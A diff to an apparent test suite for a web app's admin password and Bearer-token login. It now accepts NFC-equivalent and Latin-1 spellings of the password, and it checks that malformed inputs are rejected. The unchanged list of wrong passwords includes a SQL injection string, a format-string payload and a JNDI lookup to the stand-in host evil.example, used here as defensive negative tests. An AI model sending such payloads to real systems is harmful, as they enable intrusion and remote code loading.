@@ -74,15 +74,14 @@ WRONG = {
     "empty": "", "space": " ", "prefix": "korrekt", "trailing-space": PASSWORD + " ", "leading-space": " " + PASSWORD,
     "upper-case": PASSWORD.upper(), "nul-appended": PASSWORD + "\x00", "newline-appended": PASSWORD + "\n",
     "zero-width-inside": "korrekt\u200b-hast-batteri-häftklammer", "cyrillic-o": "k\u043errekt-hast-batteri-häftklammer",
-    "decomposed-a-umlaut": "korrekt-hast-batteri-ha\u0308ftklammer", "sql": "' OR '1'='1", "format": "%s%s%n{0}",
+    "sql": "' OR '1'='1", "format": "%s%s%n{0}",
     "jndi": "${jndi:ldap://evil.example/a}", "lone-surrogate": "\ud800",
     "latin1-mojibake": PASSWORD.encode().decode("latin-1"),
     "hundred-kilobytes": "x" * 100_000,
 }
 WRONG_TOKENS = {
     "empty": "", "prefix": "korrekt", "upper-case": PASSWORD.upper(), "suffix-comma": PASSWORD + ",",
-    "two-tokens": PASSWORD + " extra", "decomposed-utf8": "korrekt-hast-batteri-ha\u0308ftklammer".encode(),
-    "latin1-bytes": PASSWORD.encode("latin-1"), "invalid-utf8": b"korrekt-hast-batteri-h\xff\xfeftklammer",
+    "two-tokens": PASSWORD + " extra", "invalid-utf8": b"korrekt-hast-batteri-h\xff\xfeftklammer",
     "sixty-kilobytes": "x" * 60_000,
 }
 
@@ -111,6 +110,14 @@ CASES = [
     _works("password-long", "långt-" * 200),
     case("password-spaces-around-in-the-form", CAT, *_login(), step(get("/admin/"), 200),
          config={"ADMIN_PASSWORD": "  mellanslag runt om  "}),
+    # The same password in another spelling of the same characters is the same password: Unicode
+    # normalization (NFC, as RFC 8265 prescribes for passwords: "ä" typed as a + combining
+    # diaeresis), and a Bearer header sent in ISO-8859-1, as some HTTP clients encode headers.
+    case("password-decomposed-in-the-form", CAT, *_login("korrekt-hast-batteri-ha\u0308ftklammer"),
+         step(get("/admin/"), 200)),
+    one("password-decomposed-as-bearer", CAT,
+        get(CACHE, headers=bearer("korrekt-hast-batteri-ha\u0308ftklammer".encode())), 200),
+    one("password-latin1-bearer", CAT, get(CACHE, headers=bearer(PASSWORD.encode("latin-1"))), 200),
     # -- lockout: per address, shared by the form and the API, and global ---------------------------------
     case("lockout-form", CAT, *[s for _ in range(10) for s in _login("fel", LOCKED)],
          *_login(status=LIMITED)),
